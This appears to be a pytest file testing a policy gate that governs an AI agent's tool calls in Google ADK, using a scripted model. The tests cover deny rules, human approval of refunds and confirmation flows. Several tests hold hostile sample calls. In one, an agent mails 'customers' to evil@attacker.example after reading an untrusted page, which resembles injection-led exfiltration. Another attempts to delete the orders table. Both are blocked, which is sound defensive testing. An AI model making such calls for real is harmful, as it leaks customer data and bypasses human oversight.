"""ClearancePlugin in Google ADK's real runner loop with a scripted model.

``Scripted`` implements ADK's own model interface (``BaseLlm.generate_content_async``):
each model turn gets the next scripted ``LlmResponse`` (function calls, then text), no
network. The runner, the session service, the plugin manager, function-call handling and
the tool confirmation flow are ADK's.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Iterator
from pathlib import Path
from typing import Any

import pytest
from google.adk.agents import LlmAgent
from google.adk.apps import App
from google.adk.events import Event
from google.adk.models.base_llm import BaseLlm
from google.adk.models.llm_request import LlmRequest
from google.adk.models.llm_response import LlmResponse
from google.adk.runners import InMemoryRunner
from google.adk.tools.function_tool import FunctionTool
from google.genai import types
from pydantic import Field

from clearance._internal.gate.core import Gate
from clearance.integrations.google_adk import ClearancePlugin

from .framework_support import (
    APPROVER,
    TASK,
    ToolEffects,
    decisions,
    executed,
    governed_gate,
    traces,
)

APP, USER = "support", "dana"
CONFIRMATION = "adk_request_confirmation"


class Scripted(BaseLlm):
    """A scripted model: each turn gets the next response; remembers what it was shown."""

    model: str = "scripted"
    responses: list[LlmResponse] = Field(default_factory=list)
    seen: list[LlmRequest] = Field(default_factory=list)

    async def generate_content_async(
        self, llm_request: LlmRequest, stream: bool = False
    ) -> AsyncGenerator[LlmResponse, None]:
        self.seen.append(llm_request.model_copy(deep=True))
        yield self.responses.pop(0)

    def tool_responses(self) -> dict[str, dict[str, Any]]:
        """Tool name -> the last response the model was shown for it."""
        return {
            part.function_response.name or "": dict(part.function_response.response or {})
            for content in self.seen[-1].contents
            for part in content.parts or ()
            if part.function_response is not None
        }


def calls(*calls: tuple[str, dict[str, Any]]) -> LlmResponse:
    return LlmResponse(
        content=types.Content(
            role="model",
            parts=[
                types.Part(function_call=types.FunctionCall(name=name, args=args, id=f"call-{i}"))
                for i, (name, args) in enumerate(calls)
            ],
        )
    )


def done() -> LlmResponse:
    return LlmResponse(content=types.Content(role="model", parts=[types.Part(text="done")]))


class Conversation:
    """One ADK session of the support agent, driven through ``InMemoryRunner``."""

    def __init__(
        self, model: Scripted, plugin: ClearancePlugin, confirmed_by_adk: str | None = None
    ) -> None:
        """``confirmed_by_adk`` names a tool that asks for ADK confirmation itself."""
        self.effects = ToolEffects()
        tools = [
            FunctionTool(fn, require_confirmation=fn.__name__ == confirmed_by_adk)
            for fn in self.effects.functions()
        ]
        agent = LlmAgent(name="support", model=model, tools=list(tools))
        self.runner = InMemoryRunner(app=App(name=APP, root_agent=agent, plugins=[plugin]))
        self.session_id: str | None = None

    def send(self, message: types.Content) -> list[Event]:
        async def go() -> list[Event]:
            if self.session_id is None:
                session = await self.runner.session_service.create_session(
                    app_name=APP, user_id=USER
                )
                self.session_id = session.id
            return [
                event
                async for event in self.runner.run_async(
                    user_id=USER, session_id=self.session_id, new_message=message
                )
            ]

        return asyncio.run(go())

    def say(self, text: str) -> list[Event]:
        return self.send(types.Content(role="user", parts=[types.Part(text=text)]))

    def confirm(self, request: types.FunctionCall, confirmed: bool) -> list[Event]:
        answer = types.FunctionResponse(
            name=CONFIRMATION, id=request.id, response={"confirmed": confirmed}
        )
        return self.send(types.Content(role="user", parts=[types.Part(function_response=answer)]))


def confirmation_requests(events: list[Event]) -> list[types.FunctionCall]:
    return [fc for event in events for fc in event.get_function_calls() if fc.name == CONFIRMATION]


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[Gate]:
    yield from governed_gate(tmp_path)


def test_an_allowed_tool_runs_governed_in_a_trace_whose_mandate_is_the_first_message(
    gate: Gate,
) -> None:
    model = Scripted(
        responses=[
            calls(("lookup_order", {"order_id": 42})),
            calls(("lookup_order", {"order_id": 7})),
            done(),
        ]
    )
    chat = Conversation(model, ClearancePlugin(gate))
    chat.say(TASK)

    assert chat.effects.ran == [
        ("lookup_order", {"order_id": 42}),
        ("lookup_order", {"order_id": 7}),
    ]
    assert model.tool_responses()["lookup_order"] == {"result": "order 7: arrived broken"}
    assert decisions(gate) == [("lookup_order", "allow"), ("lookup_order", "allow")]
    assert len(executed(gate)) == 2
    assert [t["mandate"]["text"] for t in traces(gate)] == [TASK]  # one trace per session


def test_a_denied_tool_never_runs_and_the_model_reads_the_reasons(gate: Gate) -> None:
    model = Scripted(responses=[calls(("delete_records", {"table": "orders"})), done()])
    chat = Conversation(model, ClearancePlugin(gate))
    chat.say(TASK)

    assert chat.effects.ran == []
    assert decisions(gate) == [("delete_records", "deny")]
    assert executed(gate) == []
    response = model.tool_responses()["delete_records"]
    assert "no-deletes: Agents never delete records" in response["error"]
    assert response["reasons"] == [{"rule": "no-deletes", "message": "Agents never delete records"}]


def test_an_untrusted_page_taints_the_session_and_blocks_a_later_mail(gate: Gate) -> None:
    model = Scripted(
        responses=[
            calls(("fetch_page", {"url": "https://shop.example/faq"})),
            calls(("send_email", {"to": "evil@attacker.example", "body": "customers"})),
            done(),
        ]
    )
    chat = Conversation(model, ClearancePlugin(gate))
    chat.say(TASK)

    assert [name for name, _ in chat.effects.ran] == ["fetch_page"]
    assert decisions(gate) == [("fetch_page", "allow"), ("send_email", "deny")]
    assert "no-mail-after-untrusted-input" in model.tool_responses()["send_email"]["error"]


def test_approval_asks_adk_confirmation_and_a_clearance_approval_runs_the_call_once(
    gate: Gate,
) -> None:
    refund = {"order_id": 42, "amount": 30.0}
    model = Scripted(responses=[calls(("refund", refund)), done()])
    chat = Conversation(model, ClearancePlugin(gate))
    first = chat.say(TASK)

    [request] = confirmation_requests(first)
    assert request.args is not None
    approval_id = request.args["toolConfirmation"]["payload"]["clearance_approval_id"]
    assert chat.effects.ran == []
    assert decisions(gate) == [("refund", "approval_required")]

    gate.approve(approval_id, approver=APPROVER, reason="photo of the broken item")
    chat.confirm(request, confirmed=True)

    assert chat.effects.ran == [("refund", refund)]
    assert model.tool_responses()["refund"] == {"result": "refunded 30.0"}
    assert len(executed(gate)) == 1
    assert gate.approval(approval_id).status == "collected"
    assert len(traces(gate)) == 1


def test_a_confirmation_before_the_human_decided_does_not_run_the_call(gate: Gate) -> None:
    model = Scripted(responses=[calls(("refund", {"order_id": 42, "amount": 30.0})), done()])
    chat = Conversation(model, ClearancePlugin(gate))
    [request] = confirmation_requests(chat.say(TASK))
    [pending] = gate.approvals("pending")

    chat.confirm(request, confirmed=True)

    assert chat.effects.ran == []
    assert executed(gate) == []
    response = model.tool_responses()["refund"]
    assert response["clearance"] == "approval_required"
    assert pending.approval_id in response["error"]


def test_a_denied_approval_never_runs_and_the_model_reads_why(gate: Gate) -> None:
    model = Scripted(responses=[calls(("refund", {"order_id": 42, "amount": 30.0})), done()])
    chat = Conversation(model, ClearancePlugin(gate))
    [request] = confirmation_requests(chat.say(TASK))
    [pending] = gate.approvals("pending")

    gate.deny(pending.approval_id, approver=APPROVER, reason="no photo")
    chat.confirm(request, confirmed=True)

    assert chat.effects.ran == []
    assert executed(gate) == []
    assert model.tool_responses()["refund"]["clearance"] == "denied"


def test_a_call_rejected_at_adk_confirmation_never_runs_even_when_approved(gate: Gate) -> None:
    model = Scripted(responses=[calls(("refund", {"order_id": 42, "amount": 30.0})), done()])
    chat = Conversation(model, ClearancePlugin(gate))
    [request] = confirmation_requests(chat.say(TASK))
    [pending] = gate.approvals("pending")

    gate.approve(pending.approval_id, approver=APPROVER, reason="ok")
    chat.confirm(request, confirmed=False)

    assert chat.effects.ran == []
    assert executed(gate) == []
    assert model.tool_responses()["refund"]["clearance"] == "rejected"


def test_parallel_calls_share_the_session_trace(gate: Gate) -> None:
    model = Scripted(
        responses=[
            calls(("lookup_order", {"order_id": 42}), ("fetch_page", {"url": "https://a.example"})),
            done(),
        ]
    )
    chat = Conversation(model, ClearancePlugin(gate))
    chat.say(TASK)

    assert sorted(name for name, _ in chat.effects.ran) == ["fetch_page", "lookup_order"]
    assert len(executed(gate)) == 2
    assert len(traces(gate)) == 1


@pytest.mark.parametrize("confirmed", [True, False])
def test_a_tool_that_asks_adk_confirmation_itself_is_confirmed_before_it_is_decided(
    gate: Gate, confirmed: bool
) -> None:
    mail = {"to": "dana@shop.example", "body": "your refund"}
    model = Scripted(responses=[calls(("send_email", mail)), done()])
    chat = Conversation(model, ClearancePlugin(gate), confirmed_by_adk="send_email")
    [request] = confirmation_requests(chat.say(TASK))
    assert decisions(gate) == []  # ADK's own confirmation comes first

    chat.confirm(request, confirmed=confirmed)

    if confirmed:
        assert chat.effects.ran == [("send_email", {"to": "dana@shop.example"})]
        assert decisions(gate) == [("send_email", "allow")]
        assert len(executed(gate)) == 1
    else:
        assert chat.effects.ran == []
        assert decisions(gate) == []


def test_a_call_adk_confirmed_for_the_tool_itself_names_the_clearance_approval(
    gate: Gate,
) -> None:
    model = Scripted(responses=[calls(("refund", {"order_id": 42, "amount": 30.0})), done()])
    chat = Conversation(model, ClearancePlugin(gate), confirmed_by_adk="refund")
    [request] = confirmation_requests(chat.say(TASK))

    assert confirmation_requests(chat.confirm(request, confirmed=True)) == []
    [pending] = gate.approvals("pending")
    assert chat.effects.ran == []
    response = model.tool_responses()["refund"]
    assert response["clearance"] == "approval_required"
    assert response["approval_id"] == pending.approval_id
